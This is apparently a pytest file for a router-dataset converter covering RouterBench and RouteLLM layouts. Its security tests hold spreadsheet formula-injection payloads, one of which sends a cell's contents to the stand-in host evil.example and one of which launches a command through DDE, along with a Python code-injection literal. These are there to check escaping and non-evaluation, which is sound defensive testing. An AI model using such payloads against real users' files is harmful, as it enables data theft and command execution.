"""Public router datasets (RouterBench / RouteLLM layouts) from CSV, JSONL and Parquet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from turnout.router.dataset import (
    DatasetError,
    convert,
    detect,
    fingerprint,
    prompt_of,
    read_rows,
    write_rows,
)

ROUTERBENCH = [
    {"sample_id": "mmlu.1", "prompt": "['What is 2+2?']", "eval_name": "mmlu",
     "gpt-4-1106-preview": 1.0, "mistralai/mixtral-8x7b-chat": 0.0,
     "gpt-4-1106-preview|model_response": "4", "gpt-4-1106-preview|total_cost": 0.0003,
     "mistralai/mixtral-8x7b-chat|total_cost": 0.00002, "oracle_model_to_route_to": "gpt-4"},
    {"sample_id": "mmlu.2", "prompt": "['Capital of Peru?', 'And of Chile?']", "eval_name": "mmlu",
     "gpt-4-1106-preview": 1.0, "mistralai/mixtral-8x7b-chat": 1.0,
     "gpt-4-1106-preview|total_cost": 0.0004, "mistralai/mixtral-8x7b-chat|total_cost": 0.00001},
]  # fmt: skip
MAPPING = {"gpt-4-1106-preview": "openai/gpt-4o", "mistralai/mixtral-8x7b-chat": "local/mixtral"}


def test_routerbench_wide_layout() -> None:
    assert detect(ROUTERBENCH[0]) == "wide"
    out = convert(ROUTERBENCH, mapping=MAPPING)
    assert len(out) == 4
    first = out[0]
    assert first == {"prompt": "What is 2+2?", "deployment": "openai/gpt-4o", "score": 1.0,
                     "source": "import", "cost": 0.0003, "category": "mmlu"}  # fmt: skip
    assert out[2]["prompt"] == "Capital of Peru?\nAnd of Chile?"


def test_routellm_benchmark_csv_with_booleans(tmp_path: Path) -> None:
    path = tmp_path / "custom.csv"
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["prompt", "gpt-4o", "gpt-4o-mini"])
        w.writerow(["Explain TCP", "True", "False"])
        w.writerow(["Say hi", "True", "True"])
    out = convert(read_rows(path))
    assert [(r["deployment"], r["score"]) for r in out] == [
        ("gpt-4o", 1.0), ("gpt-4o-mini", 0.0), ("gpt-4o", 1.0), ("gpt-4o-mini", 1.0)
    ]  # fmt: skip


def test_routellm_battles() -> None:
    battles = [
        {"id": 7, "prompt": '["Write a haiku"]', "model_a": "gpt-4", "model_b": "mixtral",
         "winner_model_a": 1, "winner_model_b": 0, "winner_tie": 0},
        {"id": 8, "prompt": "Add 2 and 2", "model_a": "gpt-4", "model_b": "mixtral",
         "winner_model_a": 0, "winner_model_b": 0, "winner_tie": 1},
    ]  # fmt: skip
    assert detect(battles[0]) == "battles"
    out = convert(battles)
    assert [(r["prompt"], r["deployment"], r["score"]) for r in out] == [
        ("Write a haiku", "gpt-4", 1.0), ("Write a haiku", "mixtral", 0.0),
        ("Add 2 and 2", "gpt-4", 0.5), ("Add 2 and 2", "mixtral", 0.5),
    ]  # fmt: skip
    named = convert([{"prompt": "x", "model_a": "a", "model_b": "b", "winner": "tie (bothbad)"}])
    assert [r["score"] for r in named] == [0.0, 0.0]


def test_grades_need_their_scale() -> None:
    judged = [{"prompt": "p", "mixtral": 8}]
    with pytest.raises(DatasetError, match="score-range"):
        convert(judged)
    assert convert(judged, score_range=(1, 10))[0]["score"] == pytest.approx(7 / 9)


@pytest.mark.parametrize("suffix", [".jsonl", ".csv", ".parquet"])
def test_long_rows_round_trip_through_every_format(tmp_path: Path, suffix: str) -> None:
    rows = convert(ROUTERBENCH, mapping=MAPPING)
    path = tmp_path / f"data{suffix}"
    write_rows(path, rows)
    again = convert(read_rows(path))
    assert fingerprint(again) == fingerprint(rows)


def test_unknown_layouts_and_files_are_refused(tmp_path: Path) -> None:
    with pytest.raises(DatasetError, match="layout"):
        detect(["question", "answer"])
    with pytest.raises(DatasetError, match="file type"):
        read_rows(tmp_path / "data.xlsx")
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"prompt": "x"}\nnot json\n')
    with pytest.raises(DatasetError, match=r"bad\.jsonl:2"):
        read_rows(bad)


def test_prompt_literals_are_parsed_without_evaluating_code() -> None:
    assert prompt_of("['a', 'b']") == "a\nb"
    assert prompt_of('["a"]') == "a"
    assert prompt_of("[__import__('os').system('true')]") == "[__import__('os').system('true')]"
    assert prompt_of(["x", None, "y"]) == "x\ny"
    assert json.dumps(prompt_of(None)) == '""'


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted once: still one more, so reading strips exactly one
    "''-x",
]


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    """Before: a prompt (or request id, or model name) a client chose was written to the CSV as
    sent, and ``=HYPERLINK(...)`` ran as a formula when the export was opened in a spreadsheet.
    Now such a cell starts with ``'``; JSON lines keep the text exactly, and reading the CSV
    back gives the text that was written."""
    rows = [
        {"prompt": f, "deployment": "a/b", "score": -0.5, "request_id": f, "model": f}
        for f in FORMULAS
    ]
    rows.append({"prompt": "plain 'quoted' text", "deployment": "a/b", "score": 1.0})
    write_rows(tmp_path / "rows.csv", rows)
    with (tmp_path / "rows.csv").open(newline="", encoding="utf-8") as f:
        cells = list(csv.DictReader(f))
    for cell, text in zip(cells, FORMULAS, strict=False):
        for column in ("prompt", "request_id", "model"):
            assert cell[column] == "'" + text
        assert cell["score"] == "-0.5"  # a number is not text: left as it is
    assert cells[-1]["prompt"] == "plain 'quoted' text"
    back = read_rows(tmp_path / "rows.csv")
    assert [r["prompt"] for r in back][:6] == [f.strip() for f in FORMULAS[:6]]  # CSV: trimmed
    assert [r["prompt"] for r in back][6:] == [*FORMULAS[6:], "plain 'quoted' text"]
    write_rows(tmp_path / "rows.jsonl", rows)
    assert [r["prompt"] for r in read_rows(tmp_path / "rows.jsonl")] == [
        *FORMULAS,
        "plain 'quoted' text",
    ]
